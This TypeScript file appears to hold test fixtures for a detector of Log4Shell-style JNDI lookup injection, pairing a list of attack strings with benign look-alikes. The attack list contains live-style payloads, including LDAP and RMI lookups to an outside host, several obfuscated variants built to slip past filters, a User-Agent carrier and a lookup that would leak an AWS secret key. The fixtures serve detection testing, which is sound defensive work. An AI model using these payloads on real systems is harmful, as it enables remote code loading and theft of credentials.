/** Written for this project from the grammar of the class; no payload list was copied. */
export const attacks: readonly string[] = [
  '${jndi:ldap://198.51.100.7/a}',
  '${JNDI:rmi://198.51.100.7/a}',
  '${${lower:j}ndi:ldap://x.example.com}',
  '${${lower:${lower:j}}${upper:n}di:dns://x}',
  '${${::-j}${::-n}${::-d}${::-i}:ldap://x}',
  '${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap://x}',
  "${${date:'j'}${date:'n'}di:ldap://x}",
  '${j${main:\\k5:-Nd}i:ldap://x}',
  '$&lbrace;jndi:ldap://x}',
  '${jndi:${lower:l}${lower:d}ap://x}',
  '${env:AWS_SECRET_ACCESS_KEY}',
  '${sys:java.version}',
  'Mozilla/5.0 ${jndi:dns://x.example.com}',
  '${ jndi : ldap://x}',
];

export const benign: readonly string[] = [
  '${name}',
  '${user.id}',
  'costs $5 {approx.}',
  '${aws:username}',
  'arn:${partition}:s3:::x',
  'JNDI is an interface of Java',
  'ldap://directory.example.com is our server',
  '$1,000',
  '{jndi}',
  '${AWS::Region}',
  'time ${hh}:${mm}',
  'a: ${b}',
];
